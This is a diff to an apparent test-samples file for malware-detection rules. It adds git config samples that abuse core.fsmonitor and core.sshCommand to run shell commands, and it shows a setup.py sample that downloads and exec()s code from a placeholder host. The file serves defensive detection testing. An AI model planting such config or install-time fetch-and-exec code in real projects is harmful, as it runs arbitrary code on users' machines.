@@ -5,6 +5,10 @@ from __future__ import annotations
 from tests.examine.yara.samples.support import joined
 
 BAD: dict[str, list[bytes]] = {
+    "RG-INS-0017": [
+        joined('[core]\n\tbare = false\n\tfsmon¦itor = "id; true"\n'),
+        joined("[core]\n\tsshCom¦mand = sh -c id\n"),
+    ],
     "RG-INS-0001": [
         joined("from setupt¦ools import setup\nexec(requ¦es¦t¦s.get('https://x.invalid/a').text)\nset¦up(name='x')\n"),
     ],
@@ -91,6 +95,10 @@ BAD: dict[str, list[bytes]] = {
 """Samples that a rule must find, by the rule's id."""
 
 BENIGN: dict[str, list[bytes]] = {
+    "RG-INS-0017": [
+        b"[core]\n\tfsmonitor = true\n[alias]\n\tst = status; x\n",
+        b"[core]\n\tfsmonitor = .git/hooks/query-watchman\n\tsshCommand = ssh -i ~/.ssh/id\n",
+    ],
     "RG-INS-0001": [
         joined("from setupt¦ools import setup\nexec(open('version.py').read())\nset¦up(name='x')\n"),
     ],
